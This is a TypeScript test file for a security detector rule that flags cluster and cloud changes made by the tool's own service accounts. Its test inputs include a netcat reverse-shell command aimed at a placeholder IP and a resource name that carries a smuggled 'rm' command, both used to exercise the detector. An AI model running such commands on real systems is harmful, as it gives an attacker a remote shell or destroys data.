import { strict as assert } from 'node:assert';
import { type AdminEntryParts, adminEntry } from '../../../../local/scenarios/admin-entry.ts';
import { type AuditEntryParts, auditEntry } from '../../../../local/scenarios/audit-entry.ts';
import { makeDetector } from '../../../../shared/detection/detector.ts';
import { noRules } from '../../../../shared/detection/rules-file.ts';
import { type Finding, finding } from '../../../../shared/model/finding.ts';
import { NOW, signalOfPayload } from '../../../fixtures/signals.ts';

const OWN = 'firebreak-contain@p1.iam.gserviceaccount.com';
const detector = makeDetector(noRules(), [OWN, 'firebreak-decide@p1.iam.gserviceaccount.com']);

const seen = (payload: unknown): Finding[] =>
  detector.see(signalOfPayload(payload), NOW).findings.map((one) => finding.strict().parse(one));
const PATCH: AuditEntryParts = { verb: 'patch', resource: 'pods', namespace: 'shop', name: 'cart-0', principal: OWN };
const inCluster = (parts: Partial<AuditEntryParts> = {}) => seen(auditEntry({ ...PATCH, ...parts }));
const TAGS: AdminEntryParts = {
  service: 'compute.googleapis.com',
  method: 'v1.compute.instances.setTags',
  resourceName: 'projects/p1/zones/europe-west1-b/instances/4242424242424242424',
  principal: OWN,
};
const inCloud = (parts: Partial<AdminEntryParts> = {}) => seen(adminEntry({ ...TAGS, ...parts }));

describe('own-identity-change', () => {
  it('fires on a change in a cluster, and describes the change', () => {
    const [found, ...more] = inCluster();
    assert.deepEqual(more, []);
    assert.deepEqual(
      [found?.rule, found?.severity, found?.confidence, found?.conclusive, found?.family],
      ['own-identity-change', 'critical', 0.95, true, 'identity'],
    );
    assert.deepEqual(found?.change, {
      service: 'k8s.io',
      resource: 'core/pods',
      verb: 'patch',
      namespace: 'shop',
      name: 'cart-0',
    });
    assert.deepEqual(found?.target, { project: 'p1', location: 'europe-west1', cluster: 'c1', principal: OWN });
  });

  it('fires on a change in Google Cloud by any of our identities', () => {
    const [found] = inCloud({ principal: 'Firebreak-Decide@p1.iam.gserviceaccount.com' });
    assert.deepEqual(found?.change, {
      service: 'compute.googleapis.com',
      resource: 'instances',
      verb: 'setTags',
      name: '4242424242424242424',
    });
  });

  it('is the only rule that fires on such a change, also for bursts', () => {
    const exec = inCluster({ verb: 'create', subresource: 'exec', command: 'nc -e /bin/sh 203.0.113.9 4444' });
    assert.deepEqual(
      exec.map(({ rule }) => rule),
      ['own-identity-change'],
    );
    const signal = signalOfPayload(auditEntry({ ...PATCH, verb: 'delete', resource: 'namespaces' }));
    assert.deepEqual(detector.remembering(signal), []);
  });

  it('has a lower claim for a refused change, which a thief may try', () => {
    const [found] = inCluster({ code: 7 });
    assert.deepEqual([found?.severity, found?.confidence, found?.conclusive], ['high', 0.85, undefined]);
  });

  it('leaves out a name that could be more than a name', () => {
    const [found] = inCluster({ namespace: 'shop', name: 'a b"; rm' });
    assert.deepEqual(found?.change, { service: 'k8s.io', resource: 'core/pods', verb: 'patch', namespace: 'shop' });
  });

  const others: Array<[string, () => Finding[]]> = [
    ['another identity', () => inCluster({ principal: 'xfirebreak-contain@p1.iam.gserviceaccount.com' })],
    ['a read', () => inCluster({ verb: 'list', name: undefined })],
    [
      'a question',
      () => inCluster({ verb: 'create', group: 'authorization.k8s.io', resource: 'subjectaccessreviews' }),
    ],
    ['what came to nothing', () => inCluster({ code: 10 })],
    ['a read of the cloud', () => inCloud({ method: 'v1.compute.instances.aggregatedList' })],
    ['the end of an operation', () => seen(adminEntry({ ...TAGS, operation: { id: 'o', last: true } }))],
    ['a message', () => inCloud({ service: 'pubsub.googleapis.com', method: 'google.pubsub.v1.Publisher.Publish' })],
    [
      'a document',
      () => inCloud({ service: 'firestore.googleapis.com', method: 'google.firestore.v1.Firestore.Commit' }),
    ],
    ['evidence', () => inCloud({ service: 'storage.googleapis.com', method: 'storage.objects.create' })],
  ];
  for (const [what, found] of others) {
    it(`does not fire on ${what}`, () =>
      assert.deepEqual(
        found().filter(({ rule }) => rule === 'own-identity-change'),
        [],
      ));
  }

  for (const [what, parts] of [
    ['evidence that is deleted', { service: 'storage.googleapis.com', method: 'storage.objects.delete' }],
    ['a topic that is deleted', { service: 'pubsub.googleapis.com', method: 'google.pubsub.v1.Publisher.DeleteTopic' }],
    ['a policy', { service: 'cloudresourcemanager.googleapis.com', method: 'SetIamPolicy' }],
  ] as const)
    it(`fires on ${what}`, () =>
      assert.deepEqual(
        inCloud(parts).map(({ rule }) => rule),
        ['own-identity-change'],
      ));

  it('does not fire if no identity is configured', () => {
    assert.deepEqual(makeDetector().see(signalOfPayload(auditEntry(PATCH)), NOW).findings, []);
  });
});
